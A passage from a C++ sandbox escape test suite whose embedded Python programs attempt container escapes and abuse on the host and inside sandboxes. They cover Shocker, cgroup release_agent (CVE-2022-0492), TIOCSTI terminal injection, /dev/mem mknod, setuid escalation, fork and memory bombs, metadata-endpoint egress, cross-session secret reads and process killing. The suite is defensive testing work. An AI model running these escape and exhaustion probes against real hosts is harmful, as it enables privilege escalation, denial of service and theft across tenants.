# Shocker (2014): a handle for inode 2 — the root directory — of the filesystem /usr lives on,
# opened with open_by_handle_at, is the host's /.
mfd = os.open("/usr", os.O_RDONLY)
h = ctypes.create_string_buffer(struct.pack("<Ii", 8, 1) + struct.pack("<II", 2, 0))
fd = libc.open_by_handle_at(mfd, h, os.O_RDONLY | os.O_DIRECTORY)
if fd >= 0: escaped("opened the host's root: " + " ".join(sorted(os.listdir(fd))[:6]))
blocked("open_by_handle_at: " + err())
)PY"});

  // ---- cgroups ----
  a.push_back({"cgroup-release-agent", R"PY(
# Mount a cgroup v1 hierarchy and set its release_agent: the kernel runs that program as host
# root (CVE-2022-0492). Opening it for writing proves it; nothing is written.
d = WORK + "/cg"; os.makedirs(d, exist_ok=True)
opts = ("none,name=hutchescape%d" % os.getpid()).encode()
for o in (opts, b"rdma", b"memory"):
    if libc.mount(b"cgroup", d.encode(), b"cgroup", 0, o) == 0:
        try:
            fd = os.open(d + "/release_agent", os.O_WRONLY); os.close(fd)
            libc.umount2(d.encode(), 2)
            escaped("release_agent of a %s hierarchy opens for writing" % o.decode())
        except OSError as e: libc.umount2(d.encode(), 2); blocked("release_agent: " + oserr(e))
blocked("mount cgroup: " + err())
)PY"});
  a.back().host_setup = [](Suite&, HostRun& run) { run.mount_namespace = true; };

  a.push_back({"cgroup-procs-escape", R"PY(
# Move ourselves into another cgroup (the root: no limits) through a cgroupfs we can see or mount.
target = os.environ.get("TARGET_CGROUP", "/")
mounts = [l.split()[1] for l in open("/proc/self/mounts") if l.split()[2] in ("cgroup", "cgroup2")]
if not mounts:
    d = WORK + "/cg2"; os.makedirs(d, exist_ok=True)
    if libc.mount(b"cgroup2", d.encode(), b"cgroup2", 0, None) == 0: mounts = [d]
    else: blocked("no cgroupfs visible, mount cgroup2: " + err())
got = []
for m in mounts:
    f = os.path.join(m, target.lstrip("/"), "cgroup.procs")
    try:
        with open(f, "w") as out: out.write(str(os.getpid()))
        escaped("moved into " + f)
    except OSError as e: got.append("%s: %s" % (f, oserr(e)))
blocked("; ".join(got[:3]))
)PY"});
  a.back().host_setup = [](Suite& s, HostRun& run) {
    // From one control cgroup into another.
    std::string from = NewId("from"), to = NewId("to");
    auto a1 = s.ControlCgroup(from);
    auto a2 = s.ControlCgroup(to);
    if (!a1.ok() || !a2.ok()) return;
    run.cgroups.push_back(std::move(*a1));  // removed when the control is done
    run.cgroups.push_back(std::move(*a2));
    run.control_cgroup = true;
    run.cgroup_name = from;
    run.env["TARGET_CGROUP"] = "/" + s.ControlRoot() + "/" + to;
  };

  // ---- keys and terminals ----
  a.push_back({"keyctl", R"PY(
# The user keyring (shared by every process of the same host uid, across namespaces).
r = libc.syscall(250, 0, -4, 1)  # keyctl(KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_KEYRING, create)
if r >= 0: escaped("user keyring id %d" % r)
blocked("keyctl: " + err())
)PY"});

  const char* tiocsti = R"PY(
# Push characters into a terminal's input, as if typed (the shell reading it runs them).
import fcntl, termios
req = int(os.environ.get("REQUEST", str(termios.TIOCSTI)), 0)
master, slave = os.openpty()
try: os.setsid()
except OSError: pass
try: fcntl.ioctl(slave, termios.TIOCSCTTY, 0)
except OSError: pass
attrs = termios.tcgetattr(slave)
attrs[3] &= ~termios.ICANON   # so the injected byte can be read back without a newline
termios.tcsetattr(slave, termios.TCSANOW, attrs)
r = libc.ioctl(ctypes.c_int(slave), ctypes.c_ulong(req), ctypes.c_char_p(b"X"))
if r == 0:
    os.set_blocking(slave, False)
    try: got = os.read(slave, 16)
    except OSError: got = b""
    escaped("ioctl %s injected %r" % (hex(req), got))
blocked("ioctl %s: %s" % (hex(req), err()))
)PY";
  a.push_back({"tiocsti", tiocsti});
  a.push_back({"tiocsti-high-bits", tiocsti});
  a.back().host_setup = [](Suite&, HostRun& run) { run.env["REQUEST"] = "0x100005412"; };
  a.back().sandbox_setup = [](Suite&, SandboxRun& run) { run.env["REQUEST"] = "0x100005412"; };
  a[a.size() - 2].host_setup = [](Suite&, HostRun& run) { run.env["REQUEST"] = "0x5412"; };
  a[a.size() - 2].sandbox_setup = [](Suite&, SandboxRun& run) { run.env["REQUEST"] = "0x5412"; };

  a.push_back({"tioclinux", R"PY(
# TIOCLINUX on a console: subcode 3 pastes the selection into the input (typed commands);
# subcode 6 only reads the shift state, enough to show the call reaches the console.
TIOCLINUX = 0x541C
master, slave = os.openpty()
got = []
for dev in ("/dev/tty0", "/dev/console", "/dev/tty1", "pty"):
    try: fd = slave if dev == "pty" else os.open(dev, os.O_RDONLY | os.O_NOCTTY | os.O_NONBLOCK)
    except OSError as e: got.append("%s: %s" % (dev, oserr(e))); continue
    buf = ctypes.create_string_buffer(b"\x06")
    if libc.ioctl(ctypes.c_int(fd), ctypes.c_ulong(TIOCLINUX), buf) == 0:
        escaped("TIOCLINUX on %s answered (shift state %d)" % (dev, buf.raw[0]))
    got.append("%s: %s" % (dev, err()))
blocked("; ".join(got))
)PY"});

  // ---- devices and privileges ----
  a.push_back({"mknod-dev-mem", R"PY(
# /dev/mem (c 1 1) or any device node of our own making.
for p in ("/dev/mem", "/dev/kmem", "/dev/port"):
    try: os.close(os.open(p, os.O_RDONLY)); escaped("opened " + p)
    except OSError: pass
path = WORK + "/mem"
try:
    os.mknod(path, 0o600 | stat.S_IFCHR, os.makedev(1, 1))
except OSError as e: blocked("mknod c 1 1: " + oserr(e))
try: os.close(os.open(path, os.O_RDONLY)); how = "and it opens"
except OSError as e: how = "(open: %s: this kernel has no /dev/mem driver)" % oserr(e)
os.unlink(path)
escaped("mknod c 1 1 worked " + how)
)PY"});

  a.push_back({"extra-device-nodes", R"PY(
# Any device beyond null zero full random urandom tty ptmx and the pts: disks first.
ok = {"null", "zero", "full", "random", "urandom", "tty", "ptmx"}
for root, dirs, files in os.walk("/dev"):
    if root.startswith("/dev/pts"): continue
    for n in files:
        p = os.path.join(root, n)
        try: st = os.lstat(p)
        except OSError: continue
        if stat.S_ISBLK(st.st_mode):
            try:
                with open(p, "rb") as f: f.read(512)
                escaped("read the block device " + p)
            except OSError: pass
        if (stat.S_ISCHR(st.st_mode) or stat.S_ISBLK(st.st_mode)) and n not in ok:
            escaped("device node " + p)
blocked("only " + " ".join(sorted(os.listdir("/dev"))))
)PY"});

  a.push_back({"setuid-root", R"PY(
# As an unprivileged user, run a setuid-root program (a copy of python) and become root.
exe = WORK + "/suid-python"
subprocess.run(["cp", os.path.realpath(sys.executable), exe], check=True)
os.chown(exe, 0, 0); os.chmod(exe, 0o4755)
r = subprocess.run(["setpriv", "--reuid=1000", "--regid=1000", "--clear-groups", exe, "-c",
                    "import os; print(os.geteuid())"], capture_output=True, text=True)
os.unlink(exe)
if r.stdout.strip() == "0": escaped("uid 1000 ran a setuid-root binary with euid 0")
blocked("euid %s %s" % (r.stdout.strip(), r.stderr.strip()[:100]))
)PY"});

  a.push_back({"raw-socket", R"PY(
# Raw IP and packet sockets: spoofing, sniffing.
got = []
for fam, typ, proto, name in ((2, 3, 1, "AF_INET/SOCK_RAW"), (17, 3, 0x0300, "AF_PACKET")):
    s = libc.socket(fam, typ, proto)
    if s >= 0: os.close(s); escaped(name)
    got.append("%s: %s" % (name, err()))
blocked("; ".join(got))
)PY"});

  a.push_back({"bpf", R"PY(
# A BPF map (the first step of every eBPF exploit).
attr = ctypes.create_string_buffer(struct.pack("<IIII", 2, 4, 4, 1) + b"\0" * 112)
fd = libc.syscall(321, 0, attr, 128)  # bpf(BPF_MAP_CREATE)
if fd >= 0: os.close(fd); escaped("BPF map created")
blocked("bpf: " + err())
)PY"});

  a.push_back({"perf-event-open", R"PY(
# A system-wide perf counter: observes every process on the machine.
attr = ctypes.create_string_buffer(struct.pack("<II", 1, 128) + b"\0" * 120)  # software, cpu-clock
fd = libc.syscall(298, attr, -1, 0, -1, 0)
if fd >= 0: os.close(fd); escaped("perf_event_open(pid=-1, cpu=0)")
blocked("perf_event_open: " + err())
)PY"});

  a.push_back({"io-uring", R"PY(
# io_uring runs operations in kernel threads that seccomp never sees.
params = ctypes.create_string_buffer(120)
fd = libc.syscall(425, 4, params)
if fd >= 0: os.close(fd); escaped("io_uring_setup")
blocked("io_uring_setup: " + err())
)PY"});

  // ---- resources ----
  a.push_back({"fork-bomb", R"PY(
# 200 processes at once (the sandbox allows 64 pids).
kids = []
try:
    for _ in range(200):
        pid = os.fork()
        if pid == 0:
            time.sleep(20); os._exit(0)
        kids.append(pid)
except OSError as e: reason = oserr(e)
else: reason = None
for k in kids: os.kill(k, signal.SIGKILL)
for k in kids: os.waitpid(k, 0)
if reason is None: escaped("200 processes")
blocked("fork failed after %d: %s" % (len(kids), reason))
)PY"});
  a.back().host_setup = [](Suite&, HostRun& run) { run.control_cgroup = true; };

  a.push_back({"memory-bomb", R"PY(
# 256 MiB, touched (the sandbox has 128).
try: data = b"\x01" * (256 << 20)
except MemoryError: blocked("MemoryError")
escaped("holds %d MiB" % (len(data) >> 20))
)PY"});
  a.back().killed_is_blocked = true;
  a.back().host_setup = [](Suite&, HostRun& run) { run.control_cgroup = true; };

  a.push_back({"disk-fill", R"PY(
# 128 MiB into our writable layer (the sandbox's disk is 64).
path = WORK + "/fill"; chunk = b"\0" * (1 << 20); done = 0
try:
    with open(path, "wb") as f:
        for _ in range(128): f.write(chunk); done += 1
        f.flush(); os.fsync(f.fileno())
except OSError as e:
    blocked("%s after %d MiB" % (oserr(e), done))
finally:
    if PLACE == "host": os.unlink(path)
escaped("wrote 128 MiB")
)PY"});

  a.push_back({"inode-fill", R"PY(
# 8192 empty files (the sandbox's disk has 4096 inodes).
d = WORK + "/inodes"; os.makedirs(d, exist_ok=True); n = 0
try:
    for n in range(8192): open("%s/%d" % (d, n), "w").close()
except OSError as e: blocked("%s after %d files" % (oserr(e), n))
finally:
    if PLACE == "host": subprocess.run(["rm", "-rf", d])
escaped("8192 files")
)PY"});

  a.push_back({"stdout-flood", R"PY(
# 256 MiB on stdout. Whoever collects a command's output without a bound holds all of it: on
# the host a plain reader shows that; in the sandbox the suite measures the server side.
FLOOD = "import sys\nb = b'x' * (1 << 20)\nfor _ in range(256): sys.stdout.buffer.write(b)\n"
if PLACE == "host":
    out = subprocess.run([sys.executable, "-c", FLOOD], capture_output=True).stdout
    if len(out) >= 256 << 20: escaped("an unbounded reader holds %d MiB" % (len(out) >> 20))
    blocked("only %d bytes" % len(out))
exec(FLOOD)
)PY"});
  a.back().sandbox_custom = [](Suite& s, const Attack& self, Driver& d, const std::string& id,
                               const std::string& state, const SandboxRun& run) -> Outcome {
    auto rss = [] {
      auto st = sandbox::ReadFileToString("/proc/self/status");
      size_t p = st.ok() ? st->find("VmRSS:") : std::string::npos;
      return p == std::string::npos ? 0L : std::atol(st->c_str() + p + 6) / 1024;  // MiB
    };
    long before = rss();
    auto r = s.ExecProgram(d, id, state, self.code, run.env);
    long grew = rss() - before;
    if (!r.ok()) return {Outcome::Kind::kInconclusive, r.status().ToString()};
    std::string ev = std::to_string(r->stdout_data.size() >> 20) +
                     " MiB returned (truncated: " + (r->truncated ? "yes" : "no") +
                     "), server RSS +" + std::to_string(grew) + " MiB";
    if (r->stdout_data.size() > (16u << 20) || grew > 64) return {Outcome::Kind::kEscaped, ev};
    return {Outcome::Kind::kBlocked, ev};
  };

  // ---- other sessions ----
  // Network mode nat: egress to what must stay out of reach. The targets live in the fake
  // world (testing/net_util.h), routed from the host, so the control — a connect from the
  // host — reaches them; the sandbox's connects go through its veth and the nat rules.
  const char* egress = R"PY(
import socket
reached, why = [], []
for target in os.environ["TARGETS"].split():
    host, port = target.rsplit(":", 1)
    try:
        socket.create_connection((host, int(port)), timeout=1.5).close()
        reached.append(target)
    except OSError as e:
        why.append("%s %s" % (target, type(e).__name__))
if reached:
    escaped("connected to " + ", ".join(reached))
blocked("; ".join(why))
)PY";
  auto world_targets = [](std::vector<const char*> addrs) {
    return [addrs](Suite& s, auto& run) {
      hutch::testing::FakeWorld* w = s.World();
      std::string t;
      for (const char* a : addrs) {
        t += (t.empty() ? "" : " ") + std::string(a) + ":" + std::to_string(w ? w->port() : 1);
      }
      run.env["TARGETS"] = t;
    };
  };
  auto nat = [](auto setup) {
    return [setup](Suite& s, SandboxRun& run) {
      run.network.mode = "nat";
      setup(s, run);
    };
  };
  a.push_back({"nat-egress-cloud-metadata", egress});
  a.back().host_setup = world_targets({hutch::testing::FakeWorld::kMetadata});
  a.back().sandbox_setup = nat(world_targets({hutch::testing::FakeWorld::kMetadata}));
  a.push_back({"nat-egress-rfc1918", egress});
  a.back().host_setup =
      world_targets({hutch::testing::FakeWorld::kTen, hutch::testing::FakeWorld::kOneNineTwo});
  a.back().sandbox_setup =
      nat(world_targets({hutch::testing::FakeWorld::kTen, hutch::testing::FakeWorld::kOneNineTwo}));
  // The host itself: a service on its loopback and on all its addresses, tried at 127.0.0.1
  // (the control) and, from the sandbox, at its gateway — the host's end of its veth — and
  // at 127.0.0.1 (the sandbox's own loopback, where nothing of the host may answer).
  a.push_back({"nat-egress-host-loopback-and-gateway", egress});
  a.back().host_setup = [](Suite& s, HostRun& run) {
    s.StartHostListener();
    run.env["TARGETS"] = "127.0.0.1:" + std::to_string(s.host_listener_port());
  };
  a.back().sandbox_setup = [](Suite& s, SandboxRun& run) {
    run.network.mode = "nat";
    s.StartHostListener();
    run.env["LISTENER_PORT"] = std::to_string(s.host_listener_port());
  };
  a.back().sandbox_custom = [](Suite& s, const Attack& self, Driver& d, const std::string& id,
                               const std::string& state, const SandboxRun& run) -> Outcome {
    auto st = drivers::local::DecodeState(state);
    if (!st.ok() || st->address.empty()) return {Outcome::Kind::kInconclusive, "no nat address"};
    uint32_t a = 0;
    for (size_t i = 0, part = 0; part < 4; ++part) {
      size_t dot = st->address.find('.', i);
      a = a << 8 | static_cast<uint32_t>(std::stoi(st->address.substr(i, dot - i)));
      i = dot + 1;
    }
    uint32_t g = a - 1;  // the host's end of the /30
    std::string gateway = std::to_string(g >> 24) + "." + std::to_string(g >> 16 & 255) + "." +
                          std::to_string(g >> 8 & 255) + "." + std::to_string(g & 255);
    std::map<std::string, std::string> env = run.env;
    std::string port = env["LISTENER_PORT"];
    env["TARGETS"] = gateway + ":" + port + " 127.0.0.1:" + port;
    return Suite::FromExec(s.ExecProgram(d, id, state, self.code, env), false);
  };

  a.push_back({"read-other-session-files", R"PY(
# Another session wrote a secret under /root; find it (its own path, /proc/*/root, a scan).
name, value = os.environ["SECRET_NAME"], os.environ["SECRET_VALUE"]
paths = os.environ.get("SEARCH", "/root").split(":")
cands = [os.path.join(p, name) for p in paths]
cands += ["/proc/%s/root/root/%s" % (p, name) for p in os.listdir("/proc") if p.isdigit()]
for c in cands:
    try:
        if open(c).read() == value: escaped("read " + c)
    except OSError: pass
for top in ("/root", "/tmp", "/home", "/var", "/mnt", "/srv", "/opt"):
    for root, dirs, files in os.walk(top):
        if name in files: escaped("found " + os.path.join(root, name))
blocked("not found")
)PY"});
  a.back().host_setup = [](Suite&, HostRun& run) {
    // Without isolation, "another session" is another directory on the same machine.
    std::string other = run.work + "/other-session/root";
    (void)sandbox::MakeDirs(other, 0755);
    (void)sandbox::WriteNewFile(other + "/secret-host", "s3cret", 0600);
    run.env["SECRET_NAME"] = "secret-host";
    run.env["SECRET_VALUE"] = "s3cret";
    run.env["SEARCH"] = other;
  };
  a.back().sandbox_custom = [](Suite& s, const Attack& self, Driver& d, const std::string& id,
                               const std::string& state, const SandboxRun& run) -> Outcome {
    std::string other_state;
    std::string other = s.CreateSandbox(d, AttackResources(), &other_state);
    if (other.empty()) return {Outcome::Kind::kInconclusive, "no second sandbox"};
    std::string name = "secret-" + NewId("x"), value = NewId("v");
    core::ExecRequest w;
    w.argv = {"/bin/sh", "-c", "printf %s '" + value + "' > /root/" + name};
    auto wr = d.Exec(other, other_state, w);
    auto env = run.env;
    env["SECRET_NAME"] = name;
    env["SECRET_VALUE"] = value;
    Outcome o = (!wr.ok() || wr->exit_code != 0)
                    ? Outcome{Outcome::Kind::kInconclusive, "could not plant the secret"}
                    : Suite::FromExec(s.ExecProgram(d, id, state, self.code, env), false);
    (void)d.Destroy(other, other_state);
    return o;
  };

  a.push_back({"read-previous-session-disk", R"PY(
# Disks are reused: the session before us on this one wrote a secret and was destroyed. Look for
# it in the files, and in the blocks it freed (space allocated but never written).
name, value = os.environ["SECRET_NAME"], os.environ["SECRET_VALUE"].encode()
for top in os.environ.get("SEARCH", "/root:/tmp:/var:/etc:/home:/opt:/srv:/mnt").split(":"):
    for root, dirs, files in os.walk(top):
        if name in files: escaped("found " + os.path.join(root, name))
probe = WORK + "/probe"
with open(probe, "wb") as f: os.posix_fallocate(f.fileno(), 0, 24 << 20)
with open(probe, "rb") as f: data = f.read()
os.unlink(probe)
if value in data: escaped("the previous session's bytes are in freshly allocated space")
blocked("not in any file; 24 MiB of new space reads as zeros")
)PY"});
  a.back().host_setup = [](Suite&, HostRun& run) {
    // Without emptying, a reused directory is the previous user's.
    std::string previous = run.work + "/reused-disk";
    (void)sandbox::MakeDirs(previous, 0755);
    (void)sandbox::WriteNewFile(previous + "/secret-prev", "s3cret", 0600);
    run.env["SECRET_NAME"] = "secret-prev";
    run.env["SECRET_VALUE"] = "s3cret";
    run.env["SEARCH"] = previous;
  };
  a.back().sandbox_custom = [](Suite& s, const Attack& self, Driver& d, const std::string&,
                               const std::string&, const SandboxRun& run) -> Outcome {
    // A size of its own: the pool keeps one spare disk of it, so the disk the first session
    // leaves is the one the second gets.
    core::Resources res = AttackResources();
    res.disk_mb = 48;
    std::string name = "secret-" + NewId("x"), value = NewId("v") + NewId("v");
    std::string prev_state;
    std::string prev = s.CreateSandbox(d, res, &prev_state);
    if (prev.empty()) return {Outcome::Kind::kInconclusive, "no first sandbox"};
    core::ExecRequest w;
    w.argv = {"/bin/sh", "-c",
              "for i in $(seq 1 200000); do printf %s '" + value + "'; done > /root/" + name +
                  " && sync"};
    w.timeout_ms = 60000;
    auto wr = d.Exec(prev, prev_state, w);
    (void)d.Destroy(prev, prev_state);
    if (!wr.ok() || wr->exit_code != 0) {
      return {Outcome::Kind::kInconclusive, "could not write the secret"};
    }
    drivers::WaitForLocalDriverIdle(&d, 30000);  // the disk is emptied and back in the pool
    int loops = CountLoopDevices(s.root());
    std::string next_state;
    std::string next = s.CreateSandbox(d, res, &next_state);
    if (next.empty()) return {Outcome::Kind::kInconclusive, "no second sandbox"};
    if (CountLoopDevices(s.root()) != loops) {  // every disk is a loop device
      (void)d.Destroy(next, next_state);
      return {Outcome::Kind::kInconclusive, "the second session got a new disk, not the first's"};
    }
    auto env = run.env;
    env["SECRET_NAME"] = name;
    env["SECRET_VALUE"] = value;
    Outcome o = Suite::FromExec(s.ExecProgram(d, next, next_state, self.code, env), false);
    (void)d.Destroy(next, next_state);
    return o;
  };

  a.push_back({"signal-other-session", R"PY(
# Kill a process of another session: by its host pid (assume the attacker learned it), then
# everything we can name.
victim = int(os.environ["VICTIM_PID"])
try:
    os.kill(victim, signal.SIGKILL); how = "kill(%d) succeeded" % victim
except OSError as e: how = "kill(%d): %s" % (victim, oserr(e))
if PLACE == "sandbox":   # never on the host: that would be every process of the machine
    for p in range(2, 1 << 15):
        if p != os.getpid():
            try: os.kill(p, signal.SIGKILL)
            except OSError: pass
if PLACE == "sandbox":
    blocked(how)           # the victim is not visible here; the suite checks it from the host
time.sleep(0.2)
try: state = open("/proc/%d/stat" % victim).read().split(")")[1].split()[0]
except OSError: state = "gone"
if state in ("Z", "gone"): escaped(how + "; the victim is dead")
blocked(how + "; victim state " + state)
)PY"});
  a.back().host_setup = [](Suite& s, HostRun& run) {
    auto v = s.StartVictim({"/usr/bin/sleep", "60"});
    if (!v.ok()) return;
    run.env["VICTIM_PID"] = std::to_string(v->pid());
    run.victims.push_back(std::move(*v));
  };
  a.back().sandbox_custom = [](Suite& s, const Attack& self, Driver& d, const std::string& id,
                               const std::string& state, const SandboxRun& run) -> Outcome {
    std::string other_state;
    std::string other = s.CreateSandbox(d, AttackResources(), &other_state);
    if (other.empty()) return {Outcome::Kind::kInconclusive, "no second sandbox"};
    core::ExecRequest bg;
    bg.argv = {"/bin/sh", "-c", "sleep 1000 & echo started"};
    (void)d.Exec(other, other_state, bg);
    // The background sleep may still be a shell for a moment.
    auto pids = SandboxPidsNamed(other_state, "sleep");
    for (int i = 0; i < 400 && pids.empty(); ++i) {
      std::this_thread::sleep_for(std::chrono::milliseconds(5));
      pids = SandboxPidsNamed(other_state, "sleep");
    }
    Outcome o;
    if (pids.empty()) {
      o = {Outcome::Kind::kInconclusive, "no victim in the other sandbox"};
    } else {
      auto env = run.env;
      env["VICTIM_PID"] = std::to_string(pids[0]);
      o = Suite::FromExec(s.ExecProgram(d, id, state, self.code, env), false);
      // The verdict is the victim's, seen from the host.
      if (!AliveNotZombie(pids[0])) {
        o = {Outcome::Kind::kEscaped,
             "the other session's sleep (host pid " + std::to_string(pids[0]) + ") died"};
      } else if (o.blocked()) {
        o.evidence += "; the other session's sleep is alive";
      }
    }
    (void)d.Destroy(other, other_state);
    return o;
  };

  return a;
}

std::string Oneline(const Outcome& o) {
  const char* k = o.escaped() ? "ESCAPED" : o.blocked() ? "blocked" : "NO VERDICT";
  return std::string(k) + ": " + o.evidence;
}

TEST(EscapeSuite, EveryAttackWorksOnTheHostAndIsBlockedInASandbox) {
  if (!hutch::testing::IsRoot()) GTEST_SKIP() << "needs root (namespaces, mounts, cgroups)";
  hutch::testing::TempDir dir("hutch-security");
  ASSERT_FALSE(dir.path().empty());
  chmod(dir.path().c_str(), 0755);
  const int mounts_before = hutch::testing::CountHostMounts();
  const size_t procs_before = hutch::testing::DescendantPids().size();
  std::string driver_root, control_root;
  std::vector<Attack> attacks = Attacks();
  ASSERT_GE(attacks.size(), 25u);
  int blocked = 0, controls = 0;
  {
    Suite suite(dir.path());
    Status st = suite.Start();
    ASSERT_TRUE(st.ok()) << st.ToString();
    driver_root = suite.driver_root();
    control_root = suite.control_root();
    std::printf(
        "escape suite: %zu attacks; each on the host (control), then in a sandbox with "
        "a user namespace and in one without (the fallback)\n\n",
        attacks.size());
    for (const auto& a : attacks) {
      SCOPED_TRACE(a.name);
      Outcome control = suite.RunControl(a);
      Outcome with_userns = suite.RunSandboxed(a, *suite.drivers()[0]);
      Outcome without = suite.RunSandboxed(a, *suite.drivers()[1]);
      bool ok = with_userns.blocked() && without.blocked();
      blocked += ok;
      controls += control.escaped();
      EXPECT_TRUE(control.escaped()) << "control: " << Oneline(control);
      EXPECT_TRUE(with_userns.blocked()) << "sandbox with user namespace: " << Oneline(with_userns);
      EXPECT_TRUE(without.blocked()) << "sandbox without user namespace: " << Oneline(without);
      std::printf(
          "%-7s %s\n  host:            %s\n  sandbox:         %s\n  sandbox, no userns: %s\n",
          ok && control.escaped() ? "ok" : "FAIL", a.name.c_str(), Oneline(control).c_str(),
          Oneline(with_userns).c_str(), Oneline(without).c_str());
      std::fflush(stdout);
    }
  }
  // Nothing of it is left: mounts, loop devices, cgroups, processes.
  int loops = CountLoopDevices(dir.path());
  for (int i = 0; i < 500 && loops > 0; ++i) {  // autoclear detaches after the last unmount
    std::this_thread::sleep_for(std::chrono::milliseconds(10));
    loops = CountLoopDevices(dir.path());
  }
  EXPECT_EQ(loops, 0);
  // Mounts of this run: anything below its directories. (The host's total is printed, not
  // compared: other processes on the machine mount and unmount too.)
  int ours = 0;
  for (const auto& m : hutch::testing::HostMountPoints()) {
    if (m.starts_with(dir.path()) || m.starts_with("/tmp/hutch-attack-")) ++ours;
  }
  EXPECT_EQ(ours, 0);
  EXPECT_EQ(hutch::testing::CountCgroupDirs(driver_root), 0);
  EXPECT_EQ(hutch::testing::CountCgroupDirs(control_root), 0);
  EXPECT_EQ(hutch::testing::DescendantPids().size(), procs_before);
  std::printf(
      "\nleft behind: %d loop devices, %d mounts (host total %+d), %d cgroups, %zu processes\n",
      loops, ours, hutch::testing::CountHostMounts() - mounts_before,
      hutch::testing::CountCgroupDirs(driver_root) + hutch::testing::CountCgroupDirs(control_root),
      hutch::testing::DescendantPids().size() - procs_before);
  std::printf("%d/%zu blocked, %d/%zu controls succeeded\n", blocked, attacks.size(), controls,
              attacks.size());
}

}  // namespace
}  // namespace hutch::security
